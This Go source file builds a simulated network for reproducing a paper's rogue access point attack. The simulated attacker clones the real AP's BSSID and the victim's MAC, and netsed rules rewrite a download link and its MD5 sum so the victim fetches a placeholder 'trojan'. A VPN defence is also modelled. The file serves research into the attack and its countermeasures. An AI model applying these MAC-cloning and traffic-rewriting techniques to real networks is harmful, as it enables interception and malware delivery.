@@ -1,0 +1,355 @@
+package core
+
+import (
+	"strings"
+
+	"repro/internal/attack"
+	"repro/internal/dot11"
+	"repro/internal/ethernet"
+	"repro/internal/httpx"
+	"repro/internal/inet"
+	"repro/internal/ipv4"
+	"repro/internal/phy"
+	"repro/internal/sim"
+	"repro/internal/vpn"
+	"repro/internal/wep"
+)
+
+// Canonical addressing of the reproduction world.
+var (
+	// Corp LAN (wireless bridged with wired): 10.0.0.0/24.
+	CorpPrefix = inet.MustParsePrefix("10.0.0.0/24")
+	RouterCorp = inet.MustParseAddr("10.0.0.1")
+	VictimIP   = inet.MustParseAddr("10.0.0.3")
+	RogueWlan  = inet.MustParseAddr("10.0.0.201")
+	RogueEth   = inet.MustParseAddr("10.0.0.200")
+
+	// Secure wired / "internet" side: 198.18.0.0/24.
+	BackbonePrefix = inet.MustParsePrefix("198.18.0.0/24")
+	RouterBackbone = inet.MustParseAddr("198.18.0.1")
+	WebServerIP    = inet.MustParseAddr("198.18.0.80")
+	VPNEndpointIP  = inet.MustParseAddr("198.18.0.44")
+
+	// TunnelPrefix is the VPN virtual subnet.
+	TunnelPrefix = inet.MustParsePrefix("10.99.0.0/24")
+)
+
+// CorpBSSID is the real AP's BSSID — the paper's Figure 1 shows the rogue
+// cloning it.
+var CorpBSSID = ethernet.MustParseMAC("02:aa:bb:cc:dd:01")
+
+// VictimMAC is the victim laptop's address.
+var VictimMAC = ethernet.MustParseMAC("02:00:00:00:03:01")
+
+// RogueSTAMAC is the attacker's client-side card (before any cloning).
+var RogueSTAMAC = ethernet.MustParseMAC("02:00:00:00:66:01")
+
+// Config selects what to build. The zero value is a healthy network: CORP AP
+// on channel 1, a victim, a router, and the target web site — no attacker.
+type Config struct {
+	Seed uint64
+	SSID string // default "CORP"
+
+	// WEPKey protects the wireless network when set ("SECRET" in Fig. 1).
+	WEPKey wep.Key
+	// MACFilter restricts the real AP to the victim's (and, if cloned,
+	// the attacker's) MAC.
+	MACFilter bool
+	// SharedKeyAuth makes stations use WEP shared-key authentication.
+	SharedKeyAuth bool
+
+	// Geometry (defaults: AP at origin, victim 20 m away, rogue 5 m from
+	// the victim).
+	APPos, VictimPos, RoguePos phy.Position
+	APChannel                  phy.Channel // default 1
+	ShadowingSigmaDB           float64
+
+	// Rogue enables the attacker.
+	Rogue bool
+	// RogueChannel defaults to 6 (Figure 1).
+	RogueChannel phy.Channel
+	// RogueTxPowerDBm defaults to 15 (same as everyone).
+	RogueTxPowerDBm float64
+	// RogueCloneBSSID: clone the real BSSID (Figure 1 behaviour). If
+	// false the rogue uses its own BSSID (still same SSID).
+	RogueCloneBSSID bool
+	// RogueStationMAC overrides the attacker's client-side MAC (for the
+	// MAC-filter bypass, clone VictimMAC or a harvested MAC).
+	RogueStationMAC ethernet.MAC
+	// StreamingNetsed selects the boundary-safe rewriter.
+	StreamingNetsed bool
+	// ExtraNetsedRules appends additional substitutions to the rogue's
+	// netsed (e.g. §5.1's script injection into any trusted page).
+	ExtraNetsedRules []string
+	// RoguePureRelay disables the MITM payload (bridge only).
+	RoguePureRelay bool
+
+	// VPNServer stands up the trusted endpoint on the wired side.
+	VPNServer  bool
+	VPNCarrier vpn.Carrier
+
+	// FileContents is the genuine download (default a small tarball-ish
+	// blob); TrojanContents the attacker's replacement.
+	FileContents   []byte
+	TrojanContents []byte
+
+	// VictimJoinPolicy (default JoinBestRSSI, what firmware does).
+	VictimJoinPolicy dot11.JoinPolicy
+}
+
+func (c *Config) fill() {
+	if c.SSID == "" {
+		c.SSID = "CORP"
+	}
+	if c.APChannel == 0 {
+		c.APChannel = 1
+	}
+	if c.RogueChannel == 0 {
+		c.RogueChannel = 6
+	}
+	if c.VictimPos == (phy.Position{}) {
+		c.VictimPos = phy.Position{X: 20, Y: 0}
+	}
+	if c.RoguePos == (phy.Position{}) {
+		c.RoguePos = phy.Position{X: 25, Y: 0}
+	}
+	if c.FileContents == nil {
+		c.FileContents = []byte("GENUINE-SOFTWARE-RELEASE-1.0 :: " +
+			"useful program bytes that the user intends to run\n")
+	}
+	if c.TrojanContents == nil {
+		c.TrojanContents = []byte("TROJANED-SOFTWARE :: looks the same, " +
+			"plus a rootkit the user did not intend to run\n")
+	}
+}
+
+// World is a fully assembled scenario.
+type World struct {
+	Cfg    Config
+	Kernel *sim.Kernel
+	Medium *phy.Medium
+	Alloc  ethernet.MACAllocator
+
+	CorpSwitch     *ethernet.Switch
+	BackboneSwitch *ethernet.Switch
+	CorpAP         *dot11.AP
+
+	Router    *Host
+	Web       *Host
+	WebServer *httpx.Server
+	Site      *httpx.DownloadSite
+
+	VPNHost   *Host
+	VPNServer *vpn.Server
+
+	Victim       *WirelessHost
+	VictimClient *httpx.Client
+	VictimVPN    *vpn.Client
+
+	Rogue *attack.RogueKit
+	// RogueWeb serves the trojan from the attacker's gateway.
+	RogueWeb *httpx.Server
+}
+
+// TrojanPath is where the attacker's gateway serves the trojan.
+const TrojanPath = "/trojan.tgz"
+
+// GenuineFile is the paper's advertised artifact name.
+const GenuineFile = "file.tgz"
+
+// NewWorld builds a scenario.
+func NewWorld(cfg Config) *World {
+	cfg.fill()
+	w := &World{Cfg: cfg}
+	w.Kernel = sim.NewKernel(cfg.Seed)
+	w.Medium = phy.NewMedium(w.Kernel, phy.Config{ShadowingSigmaDB: cfg.ShadowingSigmaDB})
+
+	w.CorpSwitch = ethernet.NewSwitch(w.Kernel, &w.Alloc, ethernet.SwitchConfig{})
+	w.BackboneSwitch = ethernet.NewSwitch(w.Kernel, &w.Alloc, ethernet.SwitchConfig{})
+
+	// --- The real AP: wireless BSS bridged onto the corp switch. ---
+	var acl []ethernet.MAC
+	if cfg.MACFilter {
+		acl = []ethernet.MAC{VictimMAC}
+		if cfg.RogueStationMAC != (ethernet.MAC{}) && cfg.RogueStationMAC != VictimMAC {
+			// The ACL lists only legitimate devices; a cloned MAC walks in
+			// because it IS a listed value. Nothing to add here — that is
+			// the point. (A distinct attacker MAC stays unlisted.)
+			_ = acl
+		}
+	}
+	apRadio := w.Medium.AddRadio(phy.RadioConfig{Name: "corp-ap", Pos: cfg.APPos, Channel: cfg.APChannel})
+	w.CorpAP = dot11.NewAP(w.Kernel, apRadio, dot11.APConfig{
+		SSID: cfg.SSID, BSSID: CorpBSSID, Channel: cfg.APChannel,
+		WEPKey: cfg.WEPKey, MACAllow: acl,
+	})
+	w.CorpAP.AttachUplink(w.CorpSwitch.Attach(w.Alloc.Next()))
+
+	// --- Router between corp LAN and backbone. ---
+	w.Router = newHost(w.Kernel, "router")
+	w.Router.IP.Forwarding = true
+	w.Router.AttachWired(w.CorpSwitch, &w.Alloc, "lan0", RouterCorp, CorpPrefix)
+	w.Router.AttachWired(w.BackboneSwitch, &w.Alloc, "wan0", RouterBackbone, BackbonePrefix)
+	// Return path for VPN tunnel addresses.
+	w.Router.IP.AddRoute(ipv4.Route{Prefix: TunnelPrefix, Gateway: VPNEndpointIP, Iface: "wan0"})
+
+	// --- Target web site (the paper's download page). ---
+	w.Web = newHost(w.Kernel, "web")
+	w.Web.AttachWired(w.BackboneSwitch, &w.Alloc, "eth0", WebServerIP, BackbonePrefix)
+	w.Web.IP.AddDefaultRoute(RouterBackbone, "eth0")
+	w.WebServer = httpx.NewServer(w.Web.TCP)
+	w.Site = &httpx.DownloadSite{FileName: GenuineFile, Contents: cfg.FileContents}
+	w.Site.Install(w.WebServer)
+	if err := w.WebServer.Start(80); err != nil {
+		panic(err)
+	}
+
+	// --- Optional trusted VPN endpoint on the wired side. ---
+	if cfg.VPNServer {
+		w.VPNHost = newHost(w.Kernel, "vpn-endpoint")
+		w.VPNHost.IP.Forwarding = true
+		w.VPNHost.AttachWired(w.BackboneSwitch, &w.Alloc, "eth0", VPNEndpointIP, BackbonePrefix)
+		w.VPNHost.IP.AddDefaultRoute(RouterBackbone, "eth0")
+		sCfg := vpn.ServerConfig{PSK: w.vpnPSK(), Carrier: cfg.VPNCarrier, TunnelPrefix: TunnelPrefix}
+		var err error
+		if cfg.VPNCarrier == vpn.CarrierUDP {
+			w.VPNServer, err = vpn.NewServerUDP(w.VPNHost.IP, w.VPNHost.UDP, sCfg)
+		} else {
+			w.VPNServer, err = vpn.NewServerTCP(w.VPNHost.IP, w.VPNHost.TCP, sCfg)
+		}
+		if err != nil {
+			panic(err)
+		}
+	}
+
+	// --- Victim laptop. ---
+	w.Victim = w.newWirelessHost("victim", VictimMAC, VictimIP, cfg.VictimPos, cfg.VictimJoinPolicy)
+	w.VictimClient = httpx.NewClient(w.Victim.TCP)
+
+	// --- The attacker. ---
+	if cfg.Rogue {
+		w.buildRogue()
+	}
+	return w
+}
+
+// vpnPSK is the preestablished out-of-band secret.
+func (w *World) vpnPSK() []byte { return []byte("corp-vpn-preshared-secret") }
+
+func (w *World) newWirelessHost(name string, mac ethernet.MAC, ip inet.Addr, pos phy.Position, policy dot11.JoinPolicy) *WirelessHost {
+	radio := w.Medium.AddRadio(phy.RadioConfig{Name: name, Pos: pos, Channel: 1})
+	sta := dot11.NewSTA(w.Kernel, radio, dot11.STAConfig{
+		MAC: mac, SSID: w.Cfg.SSID, WEPKey: w.Cfg.WEPKey,
+		SharedKeyAuth: w.Cfg.SharedKeyAuth, JoinPolicy: policy,
+	})
+	h := &WirelessHost{Host: newHost(w.Kernel, name), STA: sta, Radio: radio}
+	h.IP.AddIface("wlan0", sta.NIC(), ip, CorpPrefix)
+	h.IP.AddDefaultRoute(RouterCorp, "wlan0")
+	return h
+}
+
+// buildRogue assembles the attacker per Section 4 and serves the trojan
+// from the gateway.
+func (w *World) buildRogue() {
+	cfg := w.Cfg
+	bssid := CorpBSSID
+	if !cfg.RogueCloneBSSID {
+		bssid = ethernet.MustParseMAC("02:66:66:66:66:01")
+	}
+	staMAC := cfg.RogueStationMAC
+	if staMAC == (ethernet.MAC{}) {
+		staMAC = RogueSTAMAC
+	}
+	// Slashes inside a netsed rule must be %2f-escaped — the paper's own
+	// command does exactly this ("the %2f is ASCII hex for the / character").
+	trojanURL := "http:%2f%2f" + RogueWlan.String() + strings.ReplaceAll(TrojanPath, "/", "%2f")
+	trojanSite := &httpx.DownloadSite{FileName: "trojan.tgz", Contents: cfg.TrojanContents}
+	rules := []string{
+		// The two rules from the paper's netsed command (Figure 2):
+		// replace the link, then replace the published MD5 sum.
+		"s/href=" + GenuineFile + "/href=" + trojanURL,
+		"s/" + w.Site.MD5Hex() + "/" + trojanSite.MD5Hex(),
+	}
+	rules = append(rules, cfg.ExtraNetsedRules...)
+	kit, err := attack.NewRogueKit(w.Kernel, w.Medium, cfg.RoguePos, attack.RogueKitConfig{
+		SSID:            cfg.SSID,
+		CloneBSSID:      bssid,
+		Channel:         cfg.RogueChannel,
+		WEPKey:          cfg.WEPKey,
+		StationMAC:      staMAC,
+		RogueTxPowerDBm: cfg.RogueTxPowerDBm,
+		WlanIP:          RogueWlan,
+		EthIP:           RogueEth,
+		Prefix:          CorpPrefix,
+		DefaultGW:       RouterCorp,
+		TargetIP:        WebServerIP,
+		NetsedRules:     rules,
+		StreamingNetsed: cfg.StreamingNetsed,
+		PoisonUpstream:  true,
+		DisableMITM:     cfg.RoguePureRelay,
+	})
+	if err != nil {
+		panic(err)
+	}
+	w.Rogue = kit
+	// The gateway also serves the trojaned download itself ("a link to
+	// http://gateway/trojan.tgz").
+	w.RogueWeb = httpx.NewServer(kit.TCP)
+	w.RogueWeb.Handle(TrojanPath, func(req *httpx.Request) *httpx.Response {
+		return httpx.NewResponse(200, "application/octet-stream", cfg.TrojanContents)
+	})
+	if err := w.RogueWeb.Start(80); err != nil {
+		panic(err)
+	}
+}
+
+// EnableVictimVPN brings up the paper's defense on the victim: a tunnel to
+// the trusted endpoint carrying (by default) all traffic. Call after the
+// victim associates; done fires on up/down.
+func (w *World) EnableVictimVPN(split []inet.Prefix, done func(err error)) {
+	if w.VPNServer == nil {
+		panic("core: world built without VPNServer")
+	}
+	w.Victim.TCP.MSS = vpn.InnerMSS
+	cfg := vpn.ClientConfig{
+		PSK:                 w.vpnPSK(),
+		Server:              inet.HostPort{Addr: VPNEndpointIP, Port: vpn.DefaultPort},
+		Carrier:             w.Cfg.VPNCarrier,
+		SplitTunnelPrefixes: split,
+	}
+	var cli *vpn.Client
+	var err error
+	if w.Cfg.VPNCarrier == vpn.CarrierUDP {
+		cli, err = vpn.ConnectUDP(w.Victim.IP, w.Victim.UDP, cfg)
+	} else {
+		cli, err = vpn.ConnectTCP(w.Victim.IP, w.Victim.TCP, cfg)
+	}
+	if err != nil {
+		done(err)
+		return
+	}
+	w.VictimVPN = cli
+	cli.OnUp = func(ip inet.Addr) { done(nil) }
+	cli.OnDown = func(err error) { done(err) }
+}
+
+// Run advances the world by d of virtual time.
+func (w *World) Run(d sim.Time) { w.Kernel.RunFor(d) }
+
+// VictimConnect starts the victim's association process.
+func (w *World) VictimConnect() { w.Victim.STA.Connect() }
+
+// VictimOnRogue reports whether the victim is currently associated to the
+// rogue AP (by channel, since the BSSID may be cloned).
+func (w *World) VictimOnRogue() bool {
+	if w.Rogue == nil {
+		return false
+	}
+	return w.Victim.STA.State() == dot11.StateAssociated &&
+		w.Victim.STA.BSS().Channel == w.Cfg.RogueChannel
+}
+
+// VictimAssociated reports whether the victim is associated to anything.
+func (w *World) VictimAssociated() bool {
+	return w.Victim.STA.State() == dot11.StateAssociated
+}
